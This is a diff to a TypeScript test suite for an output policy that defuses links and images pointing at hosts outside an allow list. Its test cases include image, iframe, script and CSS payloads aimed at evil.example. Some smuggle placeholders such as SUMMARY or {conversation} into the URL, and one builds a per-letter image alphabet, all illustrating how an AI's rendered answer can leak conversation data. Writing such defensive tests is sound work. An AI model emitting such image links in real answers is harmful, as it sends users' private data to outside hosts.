@@ -200,7 +200,7 @@ describe("characters that nobody sees", () => {
 });
 
 describe("links and images to hosts that are not listed", () => {
-  const policy = policyOf({ links: { allow: ["docs.example.com", "*.acme.example"] } });
+  const policy = policyOf({ links: { allow: ["docs.example.com", "*.acme.example"], images: "defuse" } });
   const shown = (text: string, settings = policy) => firstText(settings.apply(textAnswer(text), tool).text);
 
   test.for([
@@ -257,6 +257,43 @@ describe("links and images to hosts that are not listed", () => {
       shown("see https://other.example/a, [b](https://other.example/b)", policyOf({ links: { others: "defuse" } })),
     ).toBe("see hxxps://other[.]example/a, [b](hxxps://other[.]example/b)");
     expect(shown("![x](https://evil.example/p)", policyOf({ links: { images: "remove" } }))).toBe("![x](blocked:)");
+  });
+});
+
+describe("pictures of hosts that are not listed, by default", () => {
+  const shown = (text: string) => firstText(policyOf({}).apply(textAnswer(text), tool).text);
+
+  test.for([
+    "![build](https://ci.example/project/main.svg)",
+    "[![npm](https://img.example/npm/v/left-pad)](https://www.example/left-pad)",
+    "![screenshot](https://user-images.example/1234/6f1c2a9e-55a0-4d5c-9c37-0a2b6f1c2a9e.png)",
+    '<p align="center"><img width="300" src="https://img.example/logo.png" alt="logo"></p>',
+    "![x][ref]\n\n[ref]: https://img.example/a.png",
+  ])("%s stays, since nothing can be written into its address", (text) => {
+    expect(shown(text)).toBe(text);
+  });
+
+  test.for([
+    "![x](https://evil.example/p?d=SUMMARY)",
+    "![x](https://evil.example/log/)",
+    "![x](https://evil.example/{conversation}.png)",
+    "![x](https://evil.example/[data].png)",
+    `![x](https://evil.example/${"c2VjcmV0".repeat(8)}.png)`,
+    `![x](https://evil.example/${"a/b1/".repeat(40)}c.png)`,
+    `![x](https://${"c2vjcmv0".repeat(5)}.evil.example/a.png)`,
+    "![x](https://data@evil.example/a.png)",
+    '<img src="https://evil.example/p?d=SUMMARY">',
+    '<iframe src="https://evil.example/frame"></iframe>',
+    '<script src="https://evil.example/a.js"></script>',
+    '<p style="background: url(https://evil.example/p.png)">',
+  ])("%s is defused", (text) => {
+    expect(shown(text)).toContain("evil[.]example");
+  });
+
+  test("an alphabet of pictures is defused, however harmless each of them looks", () => {
+    const alphabet = [..."abcdefghijklmnopqrstuvwxyz"].map((letter) => `![](https://evil.example/${letter}.png)`);
+    expect(shown(alphabet.join(" "))).not.toContain("https://");
+    expect(shown(alphabet.slice(0, 20).join(" "))).not.toContain("[.]");
   });
 });
 
